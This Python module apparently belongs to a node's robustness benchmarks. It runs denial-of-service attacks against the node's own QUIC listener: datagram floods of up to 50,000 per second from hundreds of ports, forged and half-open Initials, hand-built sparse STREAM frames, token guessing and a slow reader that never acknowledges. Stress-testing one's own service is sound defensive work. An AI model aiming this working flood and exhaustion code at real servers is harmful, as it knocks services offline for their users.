"""Attacks on the QUIC listener: floods of datagrams, half-open handshakes, frames with gaps, wrong tokens.

Those that need a connection open it as aioquic does, an implementation that is not the node's. What is new on the
listener meanwhile is asked of the SDK: each attack also tells how many of its connections succeeded.
"""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import socket
import ssl
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from concurrent.futures import ProcessPoolExecutor
from contextlib import asynccontextmanager, suppress
from dataclasses import replace
from functools import partial

import msgspec
from aioquic.asyncio import QuicConnectionProtocol, connect
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicFrameType, QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilder
from aioquic.tls import Epoch

import zvmd
from benchmarks.attacks.attack import Attack, Target

Make = Callable[[tuple[str, int]], list[bytes]]
"""Makes the datagrams to send to an address."""

SECONDS = 8.0
DATAGRAM_BYTES = 1200
POOL = 2_000
"""Datagrams made beforehand and sent in turn."""
CONNECT_SECONDS = 15.0
TRIES = 4
"""Good connections tried during a flood."""


def initial() -> bytes:
    """A good header of an Initial, and random bytes that nobody can decrypt."""
    head = b"\xc0\0\0\0\x01\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + b"\0"
    rest = DATAGRAM_BYTES - len(head) - 2
    return head + (0x4000 | rest).to_bytes(2, "big") + os.urandom(rest)


def first_flight(address: tuple[str, int]) -> bytes:
    """A real Initial with a ClientHello."""
    client = QuicConnection(configuration=configuration())
    client.connect(address, now=time.monotonic())
    return client.datagrams_to_send(now=time.monotonic())[0][0]


def configuration() -> QuicConfiguration:
    """A client that trusts anybody."""
    return QuicConfiguration(is_client=True, alpn_protocols=["zvmd/1"], server_name="zvmd", verify_mode=ssl.CERT_NONE)


async def good_connections(target: Target) -> str:
    """Open connections one after the other; how many of them got an answer."""
    answered, slowest = 0, 0.0
    for _ in range(TRIES):
        begun = time.perf_counter()
        url = f"quic://{target.host}:{target.quic_port}"
        with suppress(zvmd.ConnectionFailed, TimeoutError):
            async with zvmd.connect(url, data_dir=target.data_dir, timeout=CONNECT_SECONDS) as client:
                await client.rpc("eth_chainId")
            answered += 1
        slowest = max(slowest, time.perf_counter() - begun)
    return f"{answered} of {TRIES} new QUIC connections, the slowest in {slowest:.1f} s"


def send(address: tuple[str, int], make: Make, per_second: int, ports: int) -> int:
    """Send so many a second from so many ports; how many it were. In a process of its own, at a low priority."""
    os.nice(10)
    datagrams = make(address)
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(ports)]
    for sender in sockets:
        sender.setblocking(False)
        sender.connect(address)
    sent, begun = 0, time.perf_counter()
    while (passed := time.perf_counter() - begun) < SECONDS:
        for _ in range(min(int(passed * per_second) - sent, 200)):
            with suppress(OSError):
                sockets[sent % ports].send(datagrams[sent % len(datagrams)])
            sent += 1
        time.sleep(0.0005)
    return sent


def flooding(make: Make, per_second: int, ports: int = 1) -> Callable[[Target], Awaitable[str]]:
    """An attack that sends so many datagrams a second from so many ports, with good connections tried meanwhile."""

    async def run(target: Target) -> str:
        address = (target.host, target.quic_port)
        with ProcessPoolExecutor(1, multiprocessing.get_context("spawn")) as apart:
            sending = asyncio.get_running_loop().run_in_executor(apart, send, address, make, per_second, ports)
            await asyncio.sleep(SECONDS / 2)
            good = await good_connections(target)
            sent = await sending
        return f"{sent:,} ({sent / SECONDS:,.0f}/s) from {ports} ports; {good}"

    return run


def noise(_: tuple[str, int]) -> list[bytes]:
    """Random bytes."""
    return [os.urandom(DATAGRAM_BYTES) for _ in range(POOL)]


def nothing(_: tuple[str, int]) -> list[bytes]:
    """Empty datagrams."""
    return [b""]


def garbage(_: tuple[str, int]) -> list[bytes]:
    """Initials of random bytes."""
    return [initial() for _ in range(POOL)]


def real(address: tuple[str, int]) -> list[bytes]:
    """Initials of clients that are never heard of again."""
    return [first_flight(address) for _ in range(500)]


async def half_open(target: Target) -> str:
    """64 clients send their first datagram and are gone; then good connections are opened at once."""
    address = (target.host, target.quic_port)
    for _ in range(64):
        flight = await asyncio.to_thread(first_flight, address)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(flight, address)
    return f"64 clients that were gone; {await good_connections(target)}"


@asynccontextmanager
async def greeted(target: Target, token: bytes) -> AsyncIterator[QuicConnectionProtocol]:
    """A connection of aioquic that has said Hello."""
    async with connect(target.host, target.quic_port, configuration=configuration()) as protocol:
        reader, writer = await protocol.create_stream()
        body = msgspec.msgpack.encode([0, 1, token, "attack"])
        writer.write(len(body).to_bytes(4, "big") + body)
        await reader.readexactly(4)
        yield protocol


async def sparse(target: Target, seconds: float = SECONDS) -> str:
    """Fill the windows of a connection, and of its streams, with frames of one byte."""
    token = (target.data_dir / "token").read_text().strip().encode()
    frames, refused, begun = 0, 0, time.perf_counter()
    while time.perf_counter() - begun < seconds:
        async with greeted(target, token) as protocol:
            quic = protocol._quic
            offset, window = 4, quic._remote_max_data
            while offset + 400 < window and not quic._close_event and time.perf_counter() - begun < seconds:
                made = builder(quic)
                made.start_packet(QuicPacketType.ONE_RTT, quic._cryptos[Epoch.ONE_RTT])
                for at in range(offset, offset + 2 * 130, 2):
                    frame = made.start_frame(QuicFrameType.STREAM_BASE | 6, capacity=12)
                    frame.push_uint_var(4)
                    frame.push_uint_var(at)
                    frame.push_uint_var(1)
                    frame.push_bytes(b"x")
                    frames += 1
                offset += 2 * 130
                for datagram in made.flush()[0]:
                    protocol._transport.sendto(datagram, quic._network_paths[0].addr)
                quic._packet_number = made.packet_number
                await asyncio.sleep(0.002)
            refused += quic._close_event is not None
    return f"{frames:,} frames of one byte; {refused} connections were ended by the node"


def builder(quic: QuicConnection) -> QuicPacketBuilder:
    """Packets of a client's connection, written by hand."""
    return QuicPacketBuilder(
        host_cid=quic.host_cid,
        is_client=True,
        max_datagram_size=1200,
        packet_number=quic._packet_number,
        peer_cid=quic._peer_cid.cid,
        peer_token=b"",
        quic_logger=None,
        spin_bit=False,
        version=quic._version,
    )


async def wrong_tokens(target: Target) -> str:
    """Guess without a pause from four connections at a time, and try good connections meanwhile."""
    guesses, ended = 0, time.perf_counter() + SECONDS

    async def guess() -> None:
        nonlocal guesses
        while time.perf_counter() < ended:
            with suppress(ConnectionError, asyncio.IncompleteReadError, TimeoutError):
                async with asyncio.timeout(5), greeted(target, b"wrong") as protocol:
                    await protocol.wait_closed()
            guesses += 1

    good, *_ = await asyncio.gather(good_connections(target), *(guess() for _ in range(4)))
    return f"{guesses} guesses; {good}"


async def slow_reader(target: Target) -> str:
    """Ask for 100 answers of 2 MB and acknowledge none of them."""
    token = (target.data_dir / "token").read_text().strip().encode()
    async with greeted(target, token) as protocol:
        _, writer = await protocol.create_stream()
        account = "0x00000000000000000000000000000000000000ff"
        override = {account: {"code": "0x621e84806000f3"}}
        for number in range(100):
            body = msgspec.msgpack.encode([1, number, "eth_call", [{"to": account}, "latest", override]])
            writer.write(len(body).to_bytes(4, "big") + body)
        protocol.transmit()
        protocol.datagram_received = lambda *_: None
        await asyncio.sleep(SECONDS)
    return "100 requests of 100 bytes for 2 MB each, no acknowledgement"


_ATTACKS = (
    Attack("9", "QUIC random datagrams 50k/s", flooding(noise, 50_000), 90),
    Attack("22", "QUIC empty datagrams 25k/s", flooding(nothing, 25_000), 90),
    Attack("9", "QUIC garbage Initials 5k/s", flooding(garbage, 5_000), 90),
    Attack("9", "QUIC garbage Initials 20k/s", flooding(garbage, 20_000), 90),
    Attack("9", "QUIC garbage Initials 20k/s from 500 ports", flooding(garbage, 20_000, 500), 90),
    Attack("9", "QUIC real Initials 3k/s from 200 ports", flooding(real, 3_000, 200), 90),
    Attack("10", "QUIC half-open 64", half_open, 90),
    Attack("20", "QUIC sparse STREAM frames with token", sparse, 60),
    Attack("20", "QUIC sparse STREAM frames for 30 s", partial(sparse, seconds=30.0), 90),
    Attack("25", "QUIC wrong tokens", wrong_tokens, 90),
    Attack("6", "QUIC slow reader 100 x 2 MB", slow_reader, 60),
)
ATTACKS: tuple[Attack, ...] = (
    *_ATTACKS,
    *(
        replace(attack, name=f"{attack.name}, aioquic", environment={"ZVMD_QUIC__LIBRARY": "aioquic"})
        for attack in _ATTACKS
    ),
)
"""All of them against each QUIC library of the node."""
